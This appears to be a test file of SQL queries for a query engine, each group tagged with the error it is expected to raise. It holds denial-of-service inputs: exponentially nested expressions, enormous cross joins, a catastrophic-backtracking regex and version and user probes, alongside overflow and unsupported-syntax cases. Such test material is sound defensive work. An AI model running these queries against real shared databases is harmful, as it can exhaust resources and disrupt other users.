WITH c0 AS (SELECT [1] AS x), c1 AS (SELECT [x, x, x, x, x, x, x, x, x] AS x FROM c0), c2 AS (SELECT [x, x, x, x, x, x, x, x, x] AS x FROM c1), c3 AS (SELECT [x, x, x, x, x, x, x, x, x] AS x FROM c2), c4 AS (SELECT [x, x, x, x, x, x, x, x, x] AS x FROM c3), c5 AS (SELECT [x, x, x, x, x, x, x, x, x] AS x FROM c4), c6 AS (SELECT [x, x, x, x, x, x, x, x, x] AS x FROM c5), c7 AS (SELECT [x, x, x, x, x, x, x, x, x] AS x FROM c6), c8 AS (SELECT [x, x, x, x, x, x, x, x, x] AS x FROM c7), c9 AS (SELECT [x, x, x, x, x, x, x, x, x] AS x FROM c8), c10 AS (SELECT [x, x, x, x, x, x, x, x, x] AS x FROM c9), c11 AS (SELECT [x, x, x, x, x, x, x, x, x] AS x FROM c10) SELECT x FROM c11
WITH c0 AS (SELECT 1 AS x), c1 AS (SELECT struct(x, x, x, x, x, x) AS x FROM c0), c2 AS (SELECT struct(x, x, x, x, x, x) AS x FROM c1), c3 AS (SELECT struct(x, x, x, x, x, x) AS x FROM c2), c4 AS (SELECT struct(x, x, x, x, x, x) AS x FROM c3), c5 AS (SELECT struct(x, x, x, x, x, x) AS x FROM c4), c6 AS (SELECT struct(x, x, x, x, x, x) AS x FROM c5), c7 AS (SELECT struct(x, x, x, x, x, x) AS x FROM c6), c8 AS (SELECT struct(x, x, x, x, x, x) AS x FROM c7), c9 AS (SELECT struct(x, x, x, x, x, x) AS x FROM c8), c10 AS (SELECT struct(x, x, x, x, x, x) AS x FROM c9), c11 AS (SELECT struct(x, x, x, x, x, x) AS x FROM c10) SELECT x FROM c11
WITH c0 AS (SELECT 1 AS x), c1 AS (SELECT {a: x, b: x, c: x, d: x, e: x, f: x} AS x FROM c0), c2 AS (SELECT {a: x, b: x, c: x, d: x, e: x, f: x} AS x FROM c1), c3 AS (SELECT {a: x, b: x, c: x, d: x, e: x, f: x} AS x FROM c2), c4 AS (SELECT {a: x, b: x, c: x, d: x, e: x, f: x} AS x FROM c3), c5 AS (SELECT {a: x, b: x, c: x, d: x, e: x, f: x} AS x FROM c4), c6 AS (SELECT {a: x, b: x, c: x, d: x, e: x, f: x} AS x FROM c5), c7 AS (SELECT {a: x, b: x, c: x, d: x, e: x, f: x} AS x FROM c6), c8 AS (SELECT {a: x, b: x, c: x, d: x, e: x, f: x} AS x FROM c7), c9 AS (SELECT {a: x, b: x, c: x, d: x, e: x, f: x} AS x FROM c8), c10 AS (SELECT {a: x, b: x, c: x, d: x, e: x, f: x} AS x FROM c9), c11 AS (SELECT {a: x, b: x, c: x, d: x, e: x, f: x} AS x FROM c10) SELECT x FROM c11
WITH c0 AS (SELECT [1] AS x), c1 AS (SELECT arrays_zip(x, x, x, x, x, x) AS x FROM c0), c2 AS (SELECT arrays_zip(x, x, x, x, x, x) AS x FROM c1), c3 AS (SELECT arrays_zip(x, x, x, x, x, x) AS x FROM c2), c4 AS (SELECT arrays_zip(x, x, x, x, x, x) AS x FROM c3), c5 AS (SELECT arrays_zip(x, x, x, x, x, x) AS x FROM c4), c6 AS (SELECT arrays_zip(x, x, x, x, x, x) AS x FROM c5), c7 AS (SELECT arrays_zip(x, x, x, x, x, x) AS x FROM c6), c8 AS (SELECT arrays_zip(x, x, x, x, x, x) AS x FROM c7), c9 AS (SELECT arrays_zip(x, x, x, x, x, x) AS x FROM c8), c10 AS (SELECT arrays_zip(x, x, x, x, x, x) AS x FROM c9), c11 AS (SELECT arrays_zip(x, x, x, x, x, x) AS x FROM c10) SELECT x FROM c11

# --- Work that does not end, or has no room.
= query_timeout | memory_limit
SELECT count(*) FROM generate_series(1, 10000000) a, generate_series(1, 10000000) b
SELECT count(*) FROM generate_series(1, 10000000) a JOIN generate_series(1, 10000000) b ON a.value < b.value
SELECT sum(sqrt(a.value * b.value)) FROM generate_series(1, 10000000) a, generate_series(1, 10000000) b
SELECT a.value, b.value FROM generate_series(1, 10000000) a, generate_series(1, 10000000) b WHERE a.value * b.value = -1

# --- More memory than queries have. Some of it is seen by the clock first.
= memory_limit | query_timeout | spill_limit | function_limit
SELECT array_agg(a.value) FROM generate_series(1, 10000000) a, generate_series(1, 100) b
SELECT count(DISTINCT a.value * 100 + b.value) FROM generate_series(1, 10000000) a, generate_series(1, 100) b
SELECT median(a.value * b.value) FROM generate_series(1, 10000000) a, generate_series(1, 100) b
SELECT length(string_agg(repeat('x', 8000), '')) FROM generate_series(1, 10000000)
SELECT a.value, count(*) FROM generate_series(1, 10000000) a, generate_series(1, 100) b GROUP BY a.value * 100 + b.value, a.value
SELECT array_agg(repeat('x', 8000)) FROM generate_series(1, 10000000)
SELECT min(x) FROM (SELECT row_number() OVER (ORDER BY a.value * b.value DESC) AS x FROM generate_series(1, 10000000) a, generate_series(1, 100) b)
SELECT count(*) FROM (SELECT a.value * 100 + b.value AS x FROM generate_series(1, 10000000) a, generate_series(1, 100) b ORDER BY x DESC LIMIT 100000000)
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY a.value) FROM generate_series(1, 10000000) a, generate_series(1, 100) b

# --- Wrong in ways that might find a defect: what is said is clear, and nothing of ours is in it.
= type_error | plan_error | execution_error | not_supported | arithmetic_overflow | syntax_error | unknown_function
SELECT -9223372036854775808 / -1
SELECT abs(-9223372036854775808)
SELECT CAST('x' AS BIGINT)
SELECT CAST(1e300 AS BIGINT)
SELECT factorial(100)
SELECT chr(-1)
SELECT chr(1114112)
SELECT substr('x', 1, -1)
SELECT split_part('a', ',', 0)
SELECT regexp_like('x', '(')
SELECT regexp_like('x', '[')
SELECT date_trunc('x', now())
SELECT date_bin(interval '0', now())
SELECT generate_series(1, 10, 0)
SELECT decode('zz', 'hex')
SELECT encode('a', 'rot13')
SELECT to_timestamp('yesterday')
SELECT make_date(2026, 13, 1)
SELECT arrow_cast(1, 'Whatever')
SELECT sum(page) FROM events
SELECT page, count(*) FROM events
SELECT * FROM events LIMIT -1
SELECT * FROM events OFFSET -1
SELECT * FROM events LIMIT (SELECT 1)
SELECT count(*) OVER (ROWS BETWEEN 1 FOLLOWING AND 1 PRECEDING) FROM events
SELECT 1 UNION SELECT 1, 2
SELECT count(count(*)) FROM events
SELECT seq FROM events WHERE sum(seq) > 1
SELECT (SELECT 1 UNION SELECT 2)
SELECT (SELECT page, seq FROM events LIMIT 1)
SELECT unnest(1)
SELECT * FROM events PIVOT (sum(seq) FOR page IN ('a'))
SELECT * FROM events MATCH_RECOGNIZE (PATTERN (a) DEFINE a AS true)
SELECT @@version
SELECT @x
= unknown_column
SELECT current_user
SELECT session_id FROM dead_letters
SELECT * FROM events WHERE no_such = 1
SELECT * FROM events ORDER BY 'x', no_such
= type_error | query_timeout
SELECT regexp_like('x', '⟦(a{1000}){1000}×5⟧')
# Clauses that the parser takes and the planner would pass over: the answer would be that of another question.
= not_supported
SELECT * FROM events TABLESAMPLE (10 PERCENT)
SELECT * FROM (SELECT * FROM events TABLESAMPLE BERNOULLI (1)) AS x
SELECT event_id FROM events PREWHERE seq < 5
SELECT event_id FROM events WITH (NOLOCK)
SELECT event_id FROM events PARTITION (p0)
SELECT event_id FROM events FORMAT Null
SELECT event_id FROM events START WITH seq = 1 CONNECT BY PRIOR seq = seq
SELECT event_type, count(*) FROM events GROUP BY event_type WITH TOTALS
SELECT event_type, count(*) FROM events GROUP BY event_type WITH ROLLUP
SELECT 1 FROM events GROUP BY page, country, seq, node, city, os, bot WITH CUBE
SELECT TOP 1 event_id FROM events
SELECT event_id FROM events FETCH FIRST 1 ROWS ONLY
SELECT event_id FROM events CLUSTER BY seq
SELECT event_id FROM events SORT BY seq
SELECT event_id FROM events LATERAL VIEW explode(items) t AS x
SELECT seq FROM events ORDER BY seq WITH FILL FROM 1 TO 1000
SELECT * FROM unnest([1, 2]) WITH ORDINALITY
= read_only
SELECT * FROM events |> WHERE true
SELECT * FROM events SETTINGS max_threads = 1
